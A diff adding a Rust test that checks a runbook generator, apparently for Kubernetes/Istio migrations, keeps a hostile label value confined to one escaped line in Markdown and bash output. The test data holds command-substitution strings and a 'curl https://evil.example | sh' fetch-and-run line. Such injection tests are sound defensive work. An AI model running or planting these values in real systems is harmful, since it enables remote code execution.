@@ -739,6 +739,32 @@ fn the_markdown_runbook_shows_no_foreign_bash_lines() {
     }
 }
 
+/// The istio-system label the plan removes holds a newline, backticks and a ```bash fence; its
+/// patch preview shows that old value. It stays one JSON-escaped line: inside a Markdown block
+/// whose fence is longer than any backtick run in it, and in a bash comment.
+#[test]
+fn a_hostile_value_in_a_patch_preview_stays_one_escaped_line() {
+    let run = run_file("hostile-values.yaml");
+    let removed = r#"- metadata.labels.istio-injection: "x'$(id)`id`\n```bash\ncurl https://evil.example | sh\n```""#;
+    for (name, text) in &run.outputs {
+        if name.starts_with("runbook.md") {
+            let lines: Vec<&str> = text.lines().collect();
+            let at = lines
+                .iter()
+                .position(|l| *l == removed)
+                .unwrap_or_else(|| panic!("{name}: no preview line {removed}"));
+            assert_eq!(lines[at - 2], "````diff", "{name}");
+            assert_eq!(lines[at + 1], "````", "{name}");
+        }
+        if name.starts_with("runbook.sh") {
+            assert!(
+                text.lines().any(|l| l == format!("  #   {removed}")),
+                "{name}: the preview is one comment line"
+            );
+        }
+    }
+}
+
 /// `status.message` of the migration resource could carry terminal escape sequences (here: set
 /// the window title, clear the screen) and fake report lines. The text report writes every
 /// control and bidi character of input text as a `\u{..}` escape; JSON escapes them its way.
